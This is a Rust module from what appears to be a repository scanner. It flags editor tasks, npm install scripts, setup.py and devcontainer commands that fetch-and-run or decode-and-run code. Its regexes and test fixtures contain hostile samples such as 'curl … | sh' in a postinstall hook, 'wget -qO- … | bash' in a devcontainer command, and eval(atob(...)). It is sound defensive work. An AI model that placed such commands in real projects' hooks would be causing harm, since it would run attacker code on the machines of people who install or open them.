//! Files of a repository that may run something when a reviewer opens or installs it: found by patterns, never run.
//!
//! Editor tasks: the `runOn: folderOpen` of Visual Studio Code (code.visualstudio.com, Tasks). Install scripts: npm's
//! `preinstall`, `install`, `postinstall`, `prepare` (docs.npmjs.com, scripts) and `setup.py`. Set-up: the commands of
//! `devcontainer.json`, `.envrc` of direnv. Ordinary ones (a hook manager, a build, a package manager) are not reported:
//! only those that fetch something by themselves or decode it. A pattern can be evaded; what is found is a warning to look
//! before opening, not a statement about anybody.

use crate::model::CodeUnit;
use crate::model::FileClass;
use crate::model::Opener;
use crate::model::OpenerKind;
use crate::model::Place;
use crate::model::Provenance;
use crate::model::SourceInfo;
use regex::bytes::Regex;
use serde_json::Value;
use std::sync::LazyLock;

/// Fetches something and runs it, or decodes what it runs.
static FETCHES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(curl|wget)\b[^\n]*(\||&&|;|-o)|Invoke-(WebRequest|Expression)|\biwr\b[^\n]*\biex\b|powershell[^\n]*-e(nc|c)?\b|base64\s+(-d|--decode)|\b(node|python3?)\s+-[ec]\b[^\n]*(https?:|atob|base64|eval|fetch)",
    )
});

/// Decodes a text and runs the result.
static DECODES: LazyLock<Regex> = LazyLock::new(|| {
    pattern(
        r"(?i)\b(eval|exec|Function)\s*\(\s*(\w+\.)*(atob|b64decode|a85decode|fromhex|decompress|loads|unescape|fromCharCode)\s*\(|\b(eval|exec|Function)\s*\(\s*(Buffer\.from|compile)\s*\([^\n]{0,200}(base64|hex)|\b(eval|exec)\s*\(\s*(await\s+)?\(?\s*(requests|urllib|axios|fetch)\b",
    )
});

/// Names that obfuscators of JavaScript give.
static OBFUSCATED: LazyLock<Regex> = LazyLock::new(|| pattern(r"\b_0x[0-9a-f]{4,6}\b"));

/// So many of them in one file are an obfuscator's work.
const MANY_NAMES: usize = 40;

/// Blank columns before code that no editor shows without scrolling.
static FAR_RIGHT: LazyLock<Regex> =
    LazyLock::new(|| pattern(r"[;}\)][ \t]{120,}[A-Za-z_!(;][^\n]{20}"));

/// The editor's key, in a file that may hold comments.
static FOLDER_OPEN: LazyLock<Regex> = LazyLock::new(|| pattern(r#""runOn"\s*:\s*"folderOpen""#));

fn pattern(text: &str) -> Regex {
    Regex::new(text).expect("a constant pattern")
}

/// What a file's name says of it.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    Tasks,
    Package,
    SetupPy,
    SetUp,
    Source,
}

fn kind(unit: &CodeUnit) -> Option<Kind> {
    let path = unit.path.to_lowercase();
    let (dir, name) = path.rsplit_once('/').unwrap_or(("", &path));
    let in_dir = |wanted: &str| dir == wanted || dir.ends_with(&format!("/{wanted}"));
    if dir.split('/').any(|d| d == "node_modules") {
        return None;
    }
    match name {
        "tasks.json" if in_dir(".vscode") => Some(Kind::Tasks),
        "package.json" => Some(Kind::Package),
        "setup.py" => Some(Kind::SetupPy),
        "devcontainer.json" | ".devcontainer.json" | ".envrc" => Some(Kind::SetUp),
        _ if unit.class == FileClass::Source || name.contains(".config.") => Some(Kind::Source),
        _ => None,
    }
}

/// Whether a file can hold something of the kind.
pub fn is_wanted(unit: &CodeUnit) -> bool {
    kind(unit).is_some()
}

/// What a file may run.
pub fn find(source: &SourceInfo, unit: &CodeUnit, bytes: &[u8]) -> Vec<Opener> {
    let Some(kind) = kind(unit) else {
        return Vec::new();
    };
    let opener = |kind, at: usize| {
        let line = memchr::memchr_iter(b'\n', &bytes[..at.min(bytes.len())]).count() as u32 + 1;
        let place = Place::Lines {
            path: unit.path.clone(),
            blob: unit.blob,
            first: line,
            last: line,
        };
        Opener {
            kind,
            at: Provenance::new(source, place),
        }
    };
    let first = |pattern: &Regex| pattern.find(bytes).map(|m| m.start());
    match kind {
        Kind::Tasks => first(&FOLDER_OPEN)
            .map(|at| opener(OpenerKind::EditorTask, at))
            .into_iter()
            .collect(),
        Kind::Package => install_script(bytes)
            .map(|at| opener(OpenerKind::InstallScript, at))
            .into_iter()
            .collect(),
        Kind::SetUp => first(&FETCHES)
            .map(|at| opener(OpenerKind::SetUp, at))
            .into_iter()
            .collect(),
        Kind::SetupPy => first(&DECODES)
            .or_else(|| first(&FETCHES))
            .map(|at| opener(OpenerKind::InstallScript, at))
            .into_iter()
            .collect(),
        Kind::Source => {
            let obfuscated = OBFUSCATED
                .find_iter(bytes)
                .nth(MANY_NAMES)
                .map(|m| m.start());
            let encoded = first(&DECODES).or(obfuscated);
            let encoded = encoded.map(|at| opener(OpenerKind::EncodedCode, at));
            let hidden = first(&FAR_RIGHT).map(|at| opener(OpenerKind::HiddenCode, at));
            encoded.into_iter().chain(hidden).collect()
        }
    }
}

/// Where an install script of `package.json` stands that fetches or decodes something.
fn install_script(bytes: &[u8]) -> Option<usize> {
    let package: Value = serde_json::from_slice(bytes).ok()?;
    let scripts = package.get("scripts")?.as_object()?;
    ["preinstall", "install", "postinstall", "prepare"]
        .iter()
        .find(|name| {
            let command = scripts
                .get(**name)
                .and_then(Value::as_str)
                .unwrap_or_default();
            FETCHES.is_match(command.as_bytes()) || DECODES.is_match(command.as_bytes())
        })
        .map(|name| memchr::memmem::find(bytes, format!("\"{name}\"").as_bytes()).unwrap_or(0))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::model::ObjectId;

    fn found(path: &str, text: &str) -> Vec<OpenerKind> {
        let class = if path.ends_with(".js") || path.ends_with(".py") {
            FileClass::Source
        } else {
            FileClass::Data
        };
        let unit = CodeUnit::new(ObjectId([1; 20]), path.into(), text.len() as u64, class);
        let source = SourceInfo {
            path: "a/work".into(),
            sha256: Default::default(),
            kind: crate::model::SourceKind::Git,
            engine: None,
        };
        find(&source, &unit, text.as_bytes())
            .iter()
            .map(|o| o.kind)
            .collect()
    }

    #[test]
    fn what_runs_by_itself_is_found_and_what_is_usual_is_not() {
        let far = format!(
            "const a = f();{}require('x').y(z('aaaaaaaaaaaa'));\n",
            " ".repeat(200)
        );
        let names: String = (0..60)
            .map(|n| format!("var _0x{:04x} = 1;\n", 0x1a00 + n))
            .collect();
        for (path, text, kinds) in [
            (
                ".vscode/tasks.json",
                "// a\n{\"tasks\": [{\"runOptions\": {\"runOn\": \"folderOpen\"}}]}",
                vec![OpenerKind::EditorTask],
            ),
            (
                ".vscode/tasks.json",
                "{\"tasks\": [{\"label\": \"build\"}]}",
                vec![],
            ),
            (
                "package.json",
                r#"{"scripts": {"postinstall": "curl -s https://x.example/a | sh"}}"#,
                vec![OpenerKind::InstallScript],
            ),
            (
                "package.json",
                r#"{"scripts": {"prepare": "husky install", "postinstall": "patch-package", "fetch": "curl -s a | sh"}}"#,
                vec![],
            ),
            (
                ".devcontainer/devcontainer.json",
                r#"{"postCreateCommand": "npm ci"}"#,
                vec![],
            ),
            (
                ".devcontainer/devcontainer.json",
                r#"{"postCreateCommand": "wget -qO- https://x.example/i | bash"}"#,
                vec![OpenerKind::SetUp],
            ),
            (
                "src/a.js",
                "eval(atob('YWxlcnQoMSk='))",
                vec![OpenerKind::EncodedCode],
            ),
            (
                "src/a.py",
                "exec(zlib.decompress(data))",
                vec![OpenerKind::EncodedCode],
            ),
            (
                "src/a.js",
                "const text = atob(token); evaluate(text)",
                vec![],
            ),
            ("src/a.js", far.as_str(), vec![OpenerKind::HiddenCode]),
            ("src/a.js", names.as_str(), vec![OpenerKind::EncodedCode]),
            ("setup.py", "setup(name='a')", vec![]),
        ] {
            assert_eq!(found(path, text), kinds, "{path}: {text}");
        }
    }
}
